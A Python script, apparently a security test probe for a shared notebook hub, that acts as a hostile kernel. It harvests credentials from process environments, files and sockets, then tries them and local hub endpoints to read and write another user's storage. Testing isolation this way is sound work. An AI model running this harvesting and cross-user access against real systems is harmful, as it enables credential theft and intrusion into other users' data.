"""What a hostile kernel does: looks for credentials everywhere, and tries each on another user.

Runs in the kernel as it stands here, with BUCKET, OTHER (a customer), VISITED (that user's name)
and PORTS put in; prints what it has found.
"""

# ruff: noqa: BLE001, S110, T201 - it goes on whatever happens, and its output is its answer

from __future__ import annotations

import contextlib
import http.client
import itertools
import json
import os
import re
import socket
from pathlib import Path
from typing import Any

import boto3
from botocore.config import Config

texts: set[str] = {"\n".join(f"{name}={text}" for name, text in os.environ.items())}
environments = 0
for process in Path("/proc").glob("[0-9]*"):
    for name in ("environ", "cmdline"):
        try:
            texts.add(
                (process / name).read_bytes().replace(b"\0", b"\n").decode("utf-8", "replace")
            )
            environments += name == "environ"
        except OSError:
            pass
PORTS: list[int] = []
"""Those of everything that the hub has started. Not the store's own: on its machine SeaweedFS asks
nobody for credentials at its filer, volumes and master, and so is not for users' machines."""
SKIPPED = {"node_modules", ".git", ".venv", "site-packages", "__pycache__"}
MOST, DEEPEST = 1000, 7
"""Files of one folder, and folders in one another: a temporary folder may hold a million."""

for top in ("/tmp", "/home", "/root", "/run", "/var/tmp", str(Path.home())):  # noqa: S108
    for folder, folders, files in os.walk(top):
        deep = folder.count("/") > DEEPEST
        folders[:] = [] if deep else [one for one in folders if one not in SKIPPED]
        for file in files[:MOST]:
            path = Path(folder, file)
            try:
                if path.is_file() and path.stat().st_size < 1_000_000:
                    texts.add(path.read_bytes().decode("utf-8", "replace"))
            except OSError:
                pass
tried = reachable = 0
for line in Path("/proc/net/unix").read_text().splitlines():
    name = line.split()[-1]
    if name.startswith("/"):
        try:
            with socket.socket(socket.AF_UNIX) as one:
                one.settimeout(1)
                one.connect(name)
                one.sendall(b'{"op": "status", "id": "1"}\n')
                texts.add(one.recv(65536).decode("utf-8", "replace"))
                reachable += 1
        except OSError:
            pass

pairs: set[tuple[str, str, str | None]] = set()
KEY = r"(?:AWS_ACCESS_KEY_ID|aws_access_key_id|AccessKeyId|access_key|accessKey)"
SECRET = r"(?:AWS_SECRET_ACCESS_KEY|aws_secret_access_key|SecretAccessKey|secret_key|secretKey)"
TOKEN = r"(?:AWS_SESSION_TOKEN|aws_session_token|Token|SessionToken)"
for text in texts:
    value = r"[\"']?\s*[=:]\s*[\"']?([^\s\"',]+)"
    keys, hidden = re.findall(KEY + value, text), re.findall(SECRET + value, text)
    sessions = [None, *re.findall(TOKEN + value, text)]
    pairs |= {(k, h, s) for k in keys[:20] for h in hidden[:20] for s in sessions[:5]}

reached: list[str] = []


def attack(client: Any, whose: str) -> None:
    """List, read and write what is the other's."""
    for area in ("data", "notebooks"):
        prefix = f"org/{area}/OTHER/"
        asked: dict[str, dict[str, Any]] = {
            "list_objects_v2": {"Prefix": prefix},
            "get_object": {"Key": f"{prefix}secret.txt"},
            "put_object": {"Key": f"{prefix}x", "Body": b""},
        }
        for operation, more in asked.items():
            try:
                getattr(client, operation)(Bucket="BUCKET", **more)
                reached.append(f"{whose}: {operation} in {prefix}")
            except Exception:
                pass


tokens: set[str] = set()
for text in texts:
    tokens |= set(re.findall(r"(?:JUPYTERHUB_API_TOKEN|JPY_API_TOKEN)=(\S+)", text))
    for file in re.findall(r"AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE=(\S+)", text):
        with contextlib.suppress(OSError):
            tokens.add(Path(file).read_text("utf-8"))
quick = Config(retries={"total_max_attempts": 1}, connect_timeout=3, read_timeout=5)
own: Any = boto3.client("s3", config=quick)
own.list_objects_v2(Bucket="BUCKET", Prefix=os.environ["USER_S3_PATH"].split("/", 3)[3])
attack(own, "the kernel's own session")
for key, hidden_key, session in pairs:
    made: Any = boto3.client
    attack(
        made(
            "s3",
            aws_access_key_id=key,
            aws_secret_access_key=hidden_key,
            aws_session_token=session,
            config=quick,
        ),
        key,
    )


ASKED = b'{"folder": null, "access": "write", "seconds": 900}'
"""What the hub's service is asked for."""
PAGES = (
    ("GET", "/credentials", None),
    ("POST", "/services/storage/credentials", ASKED),
    ("GET", "/hub/api/users/VISITED", None),
    ("POST", "/hub/api/users/VISITED/tokens", b"{}"),
    ("GET", "/user/VISITED/api/contents", None),
    ("GET", "/user/VISITED/wherobots-storage/api/v1/files?path=/data/OTHER/", None),
    ("POST", "/user/VISITED/wherobots-storage/api/v1/credentials", b'{"access": "write"}'),
)
"""What a port may have to give: a kernel's endpoint, the service, the hub, the other's server."""


def ask(port: int, method: str, page: str, asked: bytes | None, token: str) -> str | None:
    """What comes for a token; None for a refusal. Raises OSError where there is no HTTP."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
    try:
        headers = {"Authorization": token, "Content-Type": "application/json"}
        connection.request(method, page, asked, headers)
        answer = connection.getresponse()
        said = answer.read(1_000_000).decode("utf-8", "replace")
    except http.client.HTTPException as error:
        raise OSError from error
    finally:
        connection.close()
    return said if answer.status in {200, 201} else None


def vended_by(said: str) -> dict[str, str]:
    """The credentials in an answer, by their names in lower case; empty when there are none."""
    try:
        found = {name.lower(): str(one) for name, one in json.loads(said).items()}
    except (ValueError, AttributeError):
        return {}
    return found if "accesskeyid" in found else {}


vended = 0
for port in PORTS:
    try:
        ask(port, "GET", "/", None, "")
    except OSError:
        continue  # a kernel's own, say
    for (method, page, asked), token, scheme in itertools.product(PAGES, tokens, ("", "token ")):
        try:
            said = ask(port, method, page, asked, scheme + token)
        except OSError:
            continue
        given = vended_by(said or "")
        vended += bool(given)
        if given:
            made_here: Any = boto3.Session(
                given["accesskeyid"],
                given["secretaccesskey"],
                given.get("token", given.get("sessiontoken")),
            )
            attack(made_here.client("s3", config=quick), f"what {page} gave")
        elif said is not None and "VISITED" in page:
            reached.append(f"{method} {page}")
print(
    json.dumps(
        {
            "uid": os.getuid(),
            "environments": environments,
            "credentials": len(pairs) + 1,
            "tokens": len(tokens),
            "vended": vended,
            "sockets": reachable,
            "reached": reached,
        }
    )
)
